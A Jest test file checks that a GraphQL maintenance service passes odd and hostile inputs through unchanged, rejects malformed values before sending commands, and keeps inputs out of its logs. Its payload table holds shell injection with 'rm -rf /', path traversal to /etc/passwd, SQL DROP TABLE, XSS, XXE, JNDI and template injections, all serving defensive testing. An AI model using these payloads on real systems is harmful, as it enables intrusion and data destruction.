/**
 * Ids and inputs that are odd or hostile: what is taken arrives at the command API exactly as it was given, what is
 * refused sends no command, and neither stands in the log.
 */
import { describe, expect, it } from '@jest/globals';
import { EXAMPLE } from '../../dev/seed.ts';
import { formatMaintenanceId } from '../../src/maintenance.ts';
import { codes, NEW_MAINTENANCE, ROUTER_SECRET } from '../support/subgraph.ts';
import { useSubgraph } from '../support/use-subgraph.ts';

const R = EXAMPLE.residenceId;
const CREATE = 'mutation ($input: CreateMaintenanceInput!) { createMaintenance(input: $input) { id } }';
const DELETE = 'mutation ($ids: [ID!]!) { deleteMaintenances(ids: $ids) { deletedIds failures { id } } }';
const LIST =
  'query ($id: ID!, $first: Int, $offset: Int) {' +
  ' maintenances(residenceId: $id, first: $first, offset: $offset) { id } }';

const subgraph = useSubgraph();

/** Every command as name and param, in order of arrival. */
const sent = () => subgraph.upstream.received.map(({ command, param }) => [command, param]);

/** Lets the command API take any command; `text` is what its tickets say. */
function takeAnything(text: string): void {
  subgraph.upstream.fail(({ command, param }) => {
    const result =
      command === 'get_maintenance_list'
        ? []
        : command === 'get_maintenance_info'
          ? { description: text, contact: text, feedback: text, maintenance_picture_url: [text] }
          : command === 'create_maintenance_info'
            ? { maintenance_id: param.contact }
            : {};
    return { body: { success: true, result } };
  });
}

/** The texts that a value holds, at any depth, names of members included. */
function texts(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, member]) => [name, ...texts(member)]);
}

function expectUnlogged(text: string): void {
  expect(texts(subgraph.logs()).filter((logged) => logged.includes(text))).toEqual([]);
}

const TEXTS: [string, string][] = [
  ['CRLF and a header', 'odd\r\nX-Evil: 1\r\n\r\n'],
  ['NUL', 'odd\u0000odd'],
  ['every other control character', Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('odd')],
  ['DEL and C1 controls', 'odd\u007f\u0080\u0085\u009f'],
  ['a path out of here', '../../../../etc/passwd'],
  ['an escaped path out of here', '..%2f..%2fetc%2fpasswd'],
  ['a Windows path', '..\\..\\windows\\win.ini'],
  ['a URL', 'http://169.254.169.254/latest/meta-data/'],
  ['templates', '{{7*7}}$\u007b7*7}<%= 7*7 %>#{7*7}'],
  ['a lookup', '$\u007bjndi:ldap://odd.example/a}'],
  ['shell', '; cat /etc/passwd | $(id) `id` && rm -rf / #'],
  ['SQL', "' OR '1'='1'; DROP TABLE maintenances; --"],
  ['NoSQL', '{"$gt":""}'],
  ['JSON that ends the body', '"}],"command":"delete_maintenance_info","x":["'],
  ['GraphQL', '") { id } } mutation { deleteMaintenance(id: "r:m") { id } } #'],
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
  ['an XML entity', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;'],
  ['format letters', '%s%n%x%d%p'],
  ['a spreadsheet formula', '=HYPERLINK("http://odd.example")'],
  ['quotes and backslashes', '"\'`\\\\"\\u0022'],
  ['bidi overrides', 'odd\u202egnp.exe\u202c\u2066x\u2069'],
  ['emoji', '🔧👩🏽‍🔧🏳️‍🌈'],
  ['combining marks', `o${'\u0301\u0327\u0489'.repeat(80)}`],
  ['what normalization would change', 'Å Å ﬁ ①'],
  ['line separators', 'odd\u2028odd\u2029'],
  ['a byte order mark', '\ufeffodd'],
  ['non-characters', 'odd\uffff\ufffe'],
  ['zero width', 'odd\u200b\u200d\u2060'],
  ['ANSI escapes', '\u001b[31modd\u001b[0m\u001b]0;odd\u0007'],
  ['a log line', 'odd"}\n{"level":60,"msg":"forged'],
  ['not a number', 'NaN'],
  ['null as a text', 'null'],
  ['a name of Object’s', '__proto__'],
  ['another', 'constructor'],
  ['yet another', 'toString'],
  ['and hasOwnProperty', 'hasOwnProperty'],
  ['a percent sign and a colon', 'odd%:%25%3A%3a'],
  ['white space around it', ' \todd\n '],
  ['256 characters', 'x'.repeat(256)],
];

describe('a text arrives exactly as it was given, wherever it stands', () => {
  it.each(TEXTS)('%s', async (_, text) => {
    takeAnything(text);
    const key = { residenceId: text, maintenanceId: text };
    const id = formatMaintenanceId(key);
    const both = { residence_id: text, maintenance_id: text };
    const one = { description: text, contact: text, feedback: text, pictureUrls: [text] };
    const fields = 'maintenanceId residence { id } description contact feedback pictureUrls';

    const list = await subgraph.ask(LIST, { variables: { id: text } });
    expect([list.data, list.errors]).toEqual([{ maintenances: [] }, []]);
    const detail = await subgraph.ask(`query ($id: ID!) { maintenance(id: $id) { id ${fields} } }`, {
      variables: { id },
    });
    const expected = { id, maintenanceId: text, residence: { id: text }, ...one };
    expect([detail.data, detail.errors]).toEqual([{ maintenance: expected }, []]);
    const entities = await subgraph.ask(
      `query ($r: [_Any!]!) {
        _entities(representations: $r) { ... on Maintenance { id ${fields} } ... on Residence { id } }
      }`,
      {
        variables: {
          r: [
            { __typename: 'Maintenance', id },
            { __typename: 'Maintenance', residence: { id: text }, maintenanceId: text },
            { __typename: 'Residence', id: text },
          ],
        },
      },
    );
    expect([entities.data, entities.errors]).toEqual([{ _entities: [expected, expected, { id: text }] }, []]);
    const input = {
      ...NEW_MAINTENANCE,
      residenceId: text,
      description: text,
      contact: text,
      pictureFilenames: [text, text],
    };
    const created = await subgraph.ask(CREATE, { variables: { input } });
    expect([created.data, created.errors]).toEqual([{ createMaintenance: { id } }, []]);
    const deleted = await subgraph.ask('mutation ($id: ID!) { deleteMaintenance(id: $id) { id } }', {
      variables: { id },
    });
    expect([deleted.data, deleted.errors]).toEqual([{ deleteMaintenance: { id } }, []]);
    const many = await subgraph.ask(DELETE, { variables: { ids: [id, id] } });
    expect([many.data, many.errors]).toEqual([{ deleteMaintenances: { deletedIds: [id], failures: [] } }, []]);

    expect(sent()).toEqual([
      ['get_maintenance_list', { residence_id: text }],
      ['get_maintenance_info', both],
      ['get_maintenance_info', both],
      [
        'create_maintenance_info',
        {
          residence_id: text,
          start_time: '2024-01-16 13:32:45',
          finish_time: '2024-01-17 13:32:45',
          description: text,
          contact: text,
          filename: [text, text],
        },
      ],
      ['delete_maintenance_info', both],
      ['batch_delete_maintenance_info', { residence_id: text, maintenances: [{ maintenance_id: text }] }],
    ]);
    expect(subgraph.logs()).toHaveLength(6);
    expectUnlogged(text);
  });

  it.each([
    ['a space', ' '],
    ['a tab', '\t'],
    ['a no-break space', '\u00a0'],
    ['an ideographic space', '\u3000'],
    ['a zero-width space', '\u200b'],
  ])('ids are opaque, also one that is blank: %s', async (_, text) => {
    takeAnything('x');
    expect((await subgraph.ask(LIST, { variables: { id: text } })).errors).toEqual([]);
    expect(sent()).toEqual([['get_maintenance_list', { residence_id: text }]]);
  });

  it('two ids that only normalization would make one are two', async () => {
    takeAnything('x');
    const ids = ['r:\u00c5', 'r:A\u030a', 'r:\u212b', 'r:å'];
    const answer = await subgraph.ask(DELETE, { variables: { ids } });
    expect(answer.data.deleteMaintenances.deletedIds).toEqual(ids);
    expect(sent()).toEqual([
      [
        'batch_delete_maintenance_info',
        { residence_id: 'r', maintenances: ids.map((id) => ({ maintenance_id: id.slice(2) })) },
      ],
    ]);
  });

  it('names of Object’s are ids like any other, many at a time', async () => {
    takeAnything('x');
    const names = ['__proto__', 'constructor', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'];
    subgraph.upstream.fail(({ param }) => ({
      body: {
        success: true,
        result: names.map((maintenance_id) => ({
          maintenance_id,
          description: `${param.residence_id} ${maintenance_id}`,
        })),
      },
    }));
    const r = names.flatMap((residence) =>
      names.map((id) => ({ __typename: 'Maintenance', id: `${residence}:${id}` })),
    );
    const { data, errors } = await subgraph.ask(
      'query ($r: [_Any!]!) { _entities(representations: $r) { ... on Maintenance { id description } } }',
      { variables: { r } },
    );
    expect(errors).toEqual([]);
    expect(data._entities).toEqual(r.map(({ id }) => ({ id, description: id.replace(':', ' ') })));
    expect(sent()).toEqual(names.map((name) => ['get_maintenance_list', { residence_id: name }]));
  });

  it.each([
    ['a whole number for an id', LIST, { id: 5 }, { residence_id: '5' }],
    ['a negative one', LIST, { id: -5 }, { residence_id: '-5' }],
    ['one beyond all digits', LIST, { id: 1e21 }, { residence_id: '1e+21' }],
    ['the largest one', LIST, { id: Number.MAX_SAFE_INTEGER }, { residence_id: '9007199254740991' }],
    [
      'a single id for a list of them',
      DELETE,
      { ids: 'r:m' },
      { residence_id: 'r', maintenances: [{ maintenance_id: 'm' }] },
    ],
  ])('GraphQL’s own conversions aside: %s', async (_, operation, variables, param) => {
    takeAnything('x');
    expect((await subgraph.ask(operation, { variables })).errors).toEqual([]);
    expect(sent().map(([, given]) => given)).toEqual([param]);
  });

  it('a single file name for a list of them', async () => {
    takeAnything('x');
    await subgraph.ask(CREATE, { variables: { input: { ...NEW_MAINTENANCE, pictureFilenames: '../x' } } });
    expect(sent()).toMatchObject([['create_maintenance_info', { filename: ['../x'] }]]);
  });
});

describe('a body of exactly 1 MB', () => {
  const bodyOf = (unused: string) => JSON.stringify({ query: CREATE, variables: { input: NEW_MAINTENANCE, unused } });
  const room = 1_048_576 - bodyOf('').length;

  async function post(body: string) {
    const response = await fetch(`${subgraph.url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        authorization: `Bearer ${EXAMPLE.token}`,
        'router-authorization': ROUTER_SECRET,
      },
      body,
    });
    return { status: response.status, json: await response.json() };
  }

  it('is taken', async () => {
    expect(await post(bodyOf('x'.repeat(room)))).toMatchObject({
      status: 200,
      json: { data: { createMaintenance: {} } },
    });
    expect(sent()).toMatchObject([['create_maintenance_info', { description: 'x' }]]);
  });

  it('and a byte is refused', async () => {
    expect((await post(bodyOf('x'.repeat(room + 1)))).status).toBe(413);
    expect(sent()).toEqual([]);
  });

  it('is counted in bytes, not in characters', async () => {
    expect((await post(bodyOf('修'.repeat(room / 2)))).status).toBe(413);
    expect(sent()).toEqual([]);
  });
});

describe('a blank text is refused before any command', () => {
  const BLANKS: [string, string][] = [
    '\t\n\v\f\r',
    '\u0085',
    '\u00a0',
    '\u00ad',
    '\u1680',
    '\u180e',
    '\u2000\u2001\u2002\u2003\u2004\u2005\u2006\u2007\u2008\u2009\u200a',
    '\u200b\u200c\u200d\u200e\u200f',
    '\u2028\u2029',
    '\u202a\u202b\u202c\u202d\u202e',
    '\u202f',
    '\u205f',
    '\u2060\u2061\u2062\u2063',
    '\u2066\u2067\u2068\u2069',
    '\u3000',
    '\ufeff',
    '\u001b\u0007',
    ' '.repeat(1000),
  ].map((text) => [
    text.length > 99
      ? `${text.length} spaces`
      : JSON.stringify(text).replace(/[^\x21-\x7e]/g, (c) => `\\u${c.charCodeAt(0).toString(16)}`),
    text,
  ]);

  it.each(BLANKS)('%s', async (_, text) => {
    for (const member of ['description', 'contact']) {
      const answer = await subgraph.ask(CREATE, { variables: { input: { ...NEW_MAINTENANCE, [member]: text } } });
      expect(codes(answer)).toEqual([['BAD_USER_INPUT', 'createMaintenance']]);
      expect(answer.errors[0]?.message).toBe(`Argument "input.${member}" must not be blank.`);
      expect(answer.errors[0]?.extensions.outcome).toBe('NOT_SENT');
    }
    expect(sent()).toEqual([]);
  });
});

describe('a value of another type is refused before any command', () => {
  const WRONG: [string, unknown][] = [
    ['an object', { canary: 'canary' }],
    ['an empty object', {}],
    ['a list of a list', [['canary']]],
    ['true', true],
    ['a fraction', 1.5],
    ['null', null],
    ['an object that would print itself', { toString: 'canary', valueOf: 'canary' }],
    ['an object with a toJSON', { toJSON: 'canary' }],
    ['an object with a length', { length: 1e9 }],
  ];
  const PLACES: [string, string, (value: unknown) => Record<string, unknown>][] = [
    ['a residence id', LIST, (id) => ({ id })],
    ['a maintenance id', 'query ($id: ID!) { maintenance(id: $id) { id } }', (id) => ({ id })],
    ['an id of many', DELETE, (id) => ({ ids: ['r:m', id] })],
    ['a description', CREATE, (description) => ({ input: { ...NEW_MAINTENANCE, description } })],
    ['a residence id to create in', CREATE, (residenceId) => ({ input: { ...NEW_MAINTENANCE, residenceId } })],
    ['a time', CREATE, (startTime) => ({ input: { ...NEW_MAINTENANCE, startTime } })],
    ['a file name of many', CREATE, (name) => ({ input: { ...NEW_MAINTENANCE, pictureFilenames: ['x', name] } })],
  ];
  const rows = PLACES.flatMap(([place, operation, variables]) =>
    WRONG.map(([name, value]) => [name, place, operation, variables(value)] as const),
  );

  it.each(rows)('%s for %s', async (_, __, operation, variables) => {
    const answer = await subgraph.ask(operation, { variables });
    expect(answer.status).toBe(200);
    expect([...new Set(answer.errors.map(({ extensions }) => extensions.code))]).toEqual(['BAD_USER_INPUT']);
    expect(answer.data).toBeUndefined();
    expect(sent()).toEqual([]);
    expect(subgraph.logText()).not.toContain('canary');
  });

  it.each([
    ['a number for a description', CREATE, { input: { ...NEW_MAINTENANCE, description: 5 } }],
    ['a list for a description', CREATE, { input: { ...NEW_MAINTENANCE, description: ['x'] } }],
    ['a list for an id', LIST, { id: ['r'] }],
    ['an object for ids', DELETE, { ids: { 0: 'r:m', length: 1 } }],
    ['a text for an input', CREATE, { input: 'canary' }],
    ['a list of inputs', CREATE, { input: [NEW_MAINTENANCE, NEW_MAINTENANCE] }],
    ['a constructor beside the input’s members', CREATE, { input: { ...NEW_MAINTENANCE, constructor: 'canary' } }],
    [
      'the same text twice for a time',
      CREATE,
      { input: { ...NEW_MAINTENANCE, startTime: ['2024-01-16T13:32:45Z', 'x'] } },
    ],
  ])('%s', async (_, operation, variables) => {
    const answer = await subgraph.ask(operation, { variables });
    expect([...new Set(answer.errors.map(({ extensions }) => extensions.code))]).toEqual(['BAD_USER_INPUT']);
    expect(sent()).toEqual([]);
    expect(subgraph.logText()).not.toContain('canary');
  });
});

describe('first and offset', () => {
  const ask = (text: string) => {
    const body = `{"query":${JSON.stringify(LIST)},"variables":{"id":${JSON.stringify(R)},${text}}}`;
    return subgraph.post(body);
  };
  const ONE = [{ id: `${R}:${EXAMPLE.maintenanceId}` }];

  it.each([
    ['"first":2147483647', ONE],
    ['"first":2147483647,"offset":2147483647', []],
    ['"offset":2147483647', []],
    ['"first":-0', []],
    ['"first":-0.0,"offset":-0', []],
    ['"first":1e0', ONE],
    ['"first":10E-1', ONE],
    ['"first":1.0,"offset":0.0', ONE],
    ['"first":0', []],
    ['"first":1e-400', []],
    ['"first":null,"offset":null', ONE],
    ['"first":5,"first":0', []],
  ])('may be %s', async (text, expected) => {
    expect(await ask(text)).toMatchObject({ data: { maintenances: expected }, errors: [] });
    expect(sent()).toEqual([['get_maintenance_list', { residence_id: R }]]);
  });

  it.each(
    ['first', 'offset'].flatMap((name) => ['-1', '-2147483648'].map((value) => [`"${name}":${value}`, name] as const)),
  )('may not be negative: %s', async (text, name) => {
    expect(await ask(text)).toMatchObject({
      data: { maintenances: null },
      errors: [{ message: `Argument "${name}" must not be negative.`, extensions: { code: 'BAD_USER_INPUT' } }],
    });
    expect(sent()).toEqual([]);
  });

  it.each(
    [
      '2147483648',
      '-2147483649',
      '9007199254740993',
      '1e400',
      '-1e400',
      '1.5',
      '"1"',
      '"NaN"',
      '"Infinity"',
      '""',
      'true',
      '[]',
      '[1]',
      '{}',
      `1${'0'.repeat(10_000)}`,
    ].map((value) => [value.length > 99 ? `a number of ${value.length} digits` : value, value] as const),
  )('may not be %s', async (_, value) => {
    const answer = await ask(`"first":${value}`);
    expect(answer).toMatchObject({ errors: [{ extensions: { code: 'BAD_USER_INPUT' } }] });
    expect(answer.data).toBeUndefined();
    expect(sent()).toEqual([]);
  });

  it.each(['NaN', 'Infinity', '-', '0x10', '01', '+1', '.5', '1_000'])('is no JSON as %s', async (value) => {
    expect(await ask(`"first":${value}`)).toMatchObject({ errors: [{ extensions: { code: 'BAD_REQUEST' } }] });
    expect(sent()).toEqual([]);
  });

  it.each(['2147483648', '-2147483649', '1.5', '"1"', '1e3', 'NaN', 'true', '[1, 2]', '{}', '01'])(
    'is no Int in a document as %s',
    async (value) => {
      const { errors, data } = await subgraph.ask(`{ maintenances(residenceId: "${R}", first: ${value}) { id } }`);
      expect(errors.length).toBeGreaterThanOrEqual(1);
      for (const { extensions } of errors) expect(extensions.code).toMatch(/^GRAPHQL_(VALIDATION|PARSE)_FAILED$/);
      expect(data).toBeUndefined();
      expect(sent()).toEqual([]);
    },
  );
});

describe('many ids', () => {
  it('500 of them are one command each residence, in the order given', async () => {
    takeAnything('x');
    const ids = Array.from({ length: 500 }, (_, i) => `r${i % 2}:m${i}`);
    const answer = await subgraph.ask(DELETE, { variables: { ids } });
    expect(answer.data.deleteMaintenances).toEqual({ deletedIds: ids, failures: [] });
    expect(sent()).toEqual(
      ['r0', 'r1'].map((residence) => [
        'batch_delete_maintenance_info',
        {
          residence_id: residence,
          maintenances: ids.filter((id) => id.startsWith(residence)).map((id) => ({ maintenance_id: id.slice(3) })),
        },
      ]),
    );
  });

  it('500 times the same is one id', async () => {
    takeAnything('x');
    const answer = await subgraph.ask(DELETE, { variables: { ids: Array.from({ length: 500 }, () => 'r:m') } });
    expect(answer.data.deleteMaintenances).toEqual({ deletedIds: ['r:m'], failures: [] });
    expect(sent()).toEqual([
      ['batch_delete_maintenance_info', { residence_id: 'r', maintenances: [{ maintenance_id: 'm' }] }],
    ]);
  });

  it('the last of 500 may be the malformed one: nothing is sent, and the message repeats no id', async () => {
    const ids = [...Array.from({ length: 499 }, (_, i) => `r:m${i}`), 'canary'];
    const answer = await subgraph.ask(DELETE, { variables: { ids } });
    expect(codes(answer)).toEqual([['BAD_USER_INPUT', 'deleteMaintenances']]);
    expect(answer.errors[0]?.message).toMatch(/^Argument "ids\[499\]" must be/);
    expect(JSON.stringify(answer)).not.toContain('canary');
    expect(sent()).toEqual([]);
    expect(subgraph.logText()).not.toContain('canary');
  });
});
